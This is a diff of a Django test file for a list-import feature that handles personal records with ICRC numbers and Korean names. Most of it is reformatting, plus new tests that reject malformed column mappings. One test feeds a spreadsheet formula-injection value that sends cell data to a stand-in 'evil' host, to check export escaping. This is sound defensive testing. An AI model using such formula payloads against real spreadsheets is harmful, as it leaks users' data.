@@ -68,7 +68,9 @@ def test_non_sensitive_reader_sees_true_name_through_working_name(officer):
     """A reader without view_sensitive gets name_hangul null, but working_name/message?"""
     reader = user_in_role(ANALYST, "atk-reader", extra_permissions=["import_lists"])
     client, _ = token_client(reader, name="r")
-    content = csv_bytes([["icrc_number", "name_hangul", "service_number"], ["CTA-77", "김철", "SN-123"]])
+    content = csv_bytes(
+        [["icrc_number", "name_hangul", "service_number"], ["CTA-77", "김철", "SN-123"]]
+    )
     up = client.post(IMPORTS, {"file": SimpleUploadedFile("l.csv", content)}, format="multipart")
     assert up.status_code == 201, up.content
     dry = client.post(f"{IMPORTS}{up.json()['uuid']}/dry-run/", {}, format="json")
@@ -117,7 +119,9 @@ def test_duplicate_reason_codes_leak_sensitive_matches_to_a_non_sensitive_reader
 def test_commit_overwrites_an_edit_made_after_the_dry_run(officer):
     person = f.person("Ri", rank="")
     identity.external_identifier_record(actor=f.SYSTEM, person=person, scheme="icrc", value="CTA-1")
-    run = _run(officer, csv_bytes([["icrc_number", "working_name", "rank"], ["CTA-1", "Ri", "Private"]]))
+    run = _run(
+        officer, csv_bytes([["icrc_number", "working_name", "rank"], ["CTA-1", "Ri", "Private"]])
+    )
     assert run.report["rows"][0]["changes"] == {"rank": ["", "Private"]}
     # A colleague corrects the rank after the dry run, through the service, with its version.
     person.refresh_from_db()
@@ -135,8 +139,12 @@ def test_commit_overwrites_an_edit_made_after_the_dry_run(officer):
 
 
 def test_same_rows_in_another_order_without_numbers_are_created_twice(officer):
-    a = csv_bytes([["working_name", "birth_date"], ["Kim Chol", "2001-01-01"], ["Pak Song", "2002-02-02"]])
-    b = csv_bytes([["working_name", "birth_date"], ["Pak Song", "2002-02-02"], ["Kim Chol", "2001-01-01"]])
+    a = csv_bytes(
+        [["working_name", "birth_date"], ["Kim Chol", "2001-01-01"], ["Pak Song", "2002-02-02"]]
+    )
+    b = csv_bytes(
+        [["working_name", "birth_date"], ["Pak Song", "2002-02-02"], ["Kim Chol", "2001-01-01"]]
+    )
     actor = Actor(user=officer, channel="api", label="t")
     services.import_commit(actor=actor, run=_run(officer, a))
     run_b = _run(officer, b)
@@ -174,10 +182,17 @@ def test_the_database_keeps_a_committed_run_committed(officer):
 
 
 def test_zero_width_only_row_and_names(officer):
-    content = csv_bytes([["working_name"], ["\u200b"], ["\u200b\u200b "], ["Kim\u200bChol"], ["\ufeff"]])
+    content = csv_bytes(
+        [["working_name"], ["\u200b"], ["\u200b\u200b "], ["Kim\u200bChol"], ["\ufeff"]]
+    )
     run = _run(officer, content)
-    print([(r["line"], r["outcome"], repr(r["working_name"])) for r in run.report["rows"]], run.report["blank_lines"])
-    assert all(r["outcome"] != "create" or r["working_name"].isprintable() for r in run.report["rows"])
+    print(
+        [(r["line"], r["outcome"], repr(r["working_name"])) for r in run.report["rows"]],
+        run.report["blank_lines"],
+    )
+    assert all(
+        r["outcome"] != "create" or r["working_name"].isprintable() for r in run.report["rows"]
+    )
 
 
 def test_admin_columns_with_a_list_value(officer):
@@ -186,11 +201,15 @@ def test_admin_columns_with_a_list_value(officer):
     client = session_client(officer)
     r = client.post(
         reverse("admin:cases_importrun_add"),
-        {"file": SimpleUploadedFile("l.csv", b"Name\nKim\n"), "kind": "other",
-         "columns": json.dumps({"Name": ["working_name"]})},
+        {
+            "file": SimpleUploadedFile("l.csv", b"Name\nKim\n"),
+            "kind": "other",
+            "columns": json.dumps({"Name": ["working_name"]}),
+        },
     )
-    print(r.status_code)
-    assert r.status_code in (200, 400)
+    assert r.status_code == 200  # the form again, with its error
+    assert "maps to one field name as text" in r.content.decode()
+    assert not ImportRun.objects.exists()
 
 
 def test_admin_mapping_with_a_dict_value(officer):
@@ -201,8 +220,43 @@ def test_admin_mapping_with_a_dict_value(officer):
         reverse("admin:cases_importmapping_add"),
         {"name": "m", "kind": "other", "columns": json.dumps({"Name": {"a": 1}})},
     )
-    print(r.status_code)
-    assert r.status_code in (200, 400)
+    assert r.status_code == 200  # the form again, with its error
+    assert "maps to one field name as text" in r.content.decode()
+
+
+def test_api_columns_that_are_not_text_are_a_400(officer):
+    client, _ = token_client(officer, name="desk")
+    r = client.post(
+        "/api/v1/import-mappings/",
+        {"name": "m", "columns": {"Name": ["working_name"]}},
+        format="json",
+    )
+    assert r.status_code == 400
+    r = client.post(
+        IMPORTS,
+        {"file": SimpleUploadedFile("l.csv", b"Name\nKim\n"), "columns": '{"Name": 1}'},
+        format="multipart",
+    )
+    assert r.status_code == 400, r.content
+    assert "columns" in r.content.decode()
+    assert not ImportRun.objects.exists()
+
+
+@pytest.mark.parametrize(
+    ("columns", "message"),
+    [
+        ('{"Name": ["working_name"]}', "maps to one field name as text"),
+        ("{Name: working_name}", "--columns is not valid JSON"),
+    ],
+)
+def test_the_command_refuses_odd_columns_with_a_sentence(officer, tmp_path, columns, message):
+    from django.core.management import CommandError, call_command
+
+    path = tmp_path / "l.csv"
+    path.write_bytes(b"Name\nKim\n")
+    with pytest.raises(CommandError, match=message):
+        call_command("import_list", "upload", str(path), "--columns", columns)
+    assert not ImportRun.objects.exists()
 
 
 def test_row_with_more_cells_than_headers(officer):
@@ -230,7 +284,9 @@ def test_utf16_bom(officer):
 
 
 def test_json_upload_of_a_3mb_file(officer):
-    content = b"working_name,birth_place\n" + b"".join(b"Kim%d,%s\n" % (i, b"x" * 150) for i in range(18000))
+    content = b"working_name,birth_place\n" + b"".join(
+        b"Kim%d,%s\n" % (i, b"x" * 150) for i in range(18000)
+    )
     client, _ = token_client(officer, name="desk")
     r = client.post(
         IMPORTS,
@@ -249,7 +305,10 @@ def test_long_file_name_commit(officer):
 
 
 def test_formula_value_reaches_export_escaped(officer):
-    run = _run(officer, csv_bytes([["working_name", "unit"], ['=HYPERLINK("http://evil/?"&A1,"x")', "@SUM(1)"]]))
+    run = _run(
+        officer,
+        csv_bytes([["working_name", "unit"], ['=HYPERLINK("http://evil/?"&A1,"x")', "@SUM(1)"]]),
+    )
     print([(r["outcome"], r["values"]) for r in run.report["rows"]])
 
 
@@ -286,7 +345,7 @@ def test_xlsx_formulas_serials_and_resave(officer):
     content = _xlsx(
         [
             ["icrc_number", "working_name", "birth_date", "unit"],
-            ["CTA-F1", "=1+1", 36000, "=HYPERLINK(\"http://x\",\"y\")"],
+            ["CTA-F1", "=1+1", 36000, '=HYPERLINK("http://x","y")'],
             ["CTA-F2", "Kim", datetime.datetime(1999, 3, 12, 13, 0), 12.5],
             [12345678901234567890, "Big", 1e20, None],
         ]
@@ -298,7 +357,7 @@ def test_xlsx_formulas_serials_and_resave(officer):
     again = _xlsx(
         [
             ["icrc_number", "working_name", "birth_date", "unit"],
-            ["CTA-F1", "=1+1", 36000, "=HYPERLINK(\"http://x\",\"y\")"],
+            ["CTA-F1", "=1+1", 36000, '=HYPERLINK("http://x","y")'],
             ["CTA-F2", "Kim", datetime.datetime(1999, 3, 12, 13, 0), 12.5],
             [12345678901234567890, "Big", 1e20, None],
         ]
@@ -344,7 +403,16 @@ def test_extra_cells_shift_free_text(officer):
 
 
 def test_same_name_in_two_name_columns(officer):
-    run = _run(officer, csv_bytes([["icrc_number", "name_latin", "name_cyrillic"], ["CTA-D1", "Kim", "Kim"], ["CTA-D2", "Pak", ""]]))
+    run = _run(
+        officer,
+        csv_bytes(
+            [
+                ["icrc_number", "name_latin", "name_cyrillic"],
+                ["CTA-D1", "Kim", "Kim"],
+                ["CTA-D2", "Pak", ""],
+            ]
+        ),
+    )
     print("dry run:", [(r["line"], r["outcome"]) for r in run.report["rows"]])
     client, _ = token_client(officer, name="desk")
     r = client.post(f"{IMPORTS}{run.uuid}/commit/", {"skip_rejected": True}, format="json")
@@ -355,7 +423,15 @@ def test_same_name_in_two_name_columns(officer):
 def test_feed_of_a_commit_as_an_integration(officer):
     from tests.support.roles import INTEGRATION
 
-    run = _run(officer, csv_bytes([["icrc_number", "working_name", "name_hangul", "service_number", "family_name"], ["CTA-FE", "P-FE", "김철", "SN-1", "Kim"]]))
+    run = _run(
+        officer,
+        csv_bytes(
+            [
+                ["icrc_number", "working_name", "name_hangul", "service_number", "family_name"],
+                ["CTA-FE", "P-FE", "김철", "SN-1", "Kim"],
+            ]
+        ),
+    )
     services.import_commit(actor=Actor(user=officer, channel="api", label="t"), run=run)
     integ = user_in_role(INTEGRATION, "atk-integ")
     client, _ = token_client(integ, name="i")
@@ -371,12 +447,27 @@ def test_report_reads_of_a_matched_persons_values_are_logged_against_him(officer
     ri = f.person("Ri", service_number="SN-OLD", names=[NameSpec("리철", "hangul")])
     identity.external_identifier_record(actor=f.SYSTEM, person=ri, scheme="icrc", value="CTA-AL")
     f.person("Zed", names=[NameSpec("김철", "hangul")])
-    run = _run(officer, csv_bytes([["icrc_number", "working_name", "service_number"], ["CTA-AL", "Ri", "SN-NEW"], ["", "Kim Chol", ""]]))
+    run = _run(
+        officer,
+        csv_bytes(
+            [
+                ["icrc_number", "working_name", "service_number"],
+                ["CTA-AL", "Ri", "SN-NEW"],
+                ["", "Kim Chol", ""],
+            ]
+        ),
+    )
     client, _ = token_client(officer, name="desk")
     before = AccessLog.objects.count()
     body = client.get(f"{IMPORTS}{run.uuid}/").json()
     print([(r["changes"], [d["reasons"] for d in r["duplicates"]]) for r in body["report"]["rows"]])
-    print(list(AccessLog.objects.all()[before:].values("object_type", "object_uuid", "fields")) if before == 0 else list(AccessLog.objects.order_by("-id")[:3].values("object_type", "object_uuid", "fields")))
+    print(
+        list(AccessLog.objects.all()[before:].values("object_type", "object_uuid", "fields"))
+        if before == 0
+        else list(
+            AccessLog.objects.order_by("-id")[:3].values("object_type", "object_uuid", "fields")
+        )
+    )
     assert AccessLog.objects.filter(object_uuid=ri.uuid).exists()
 
 
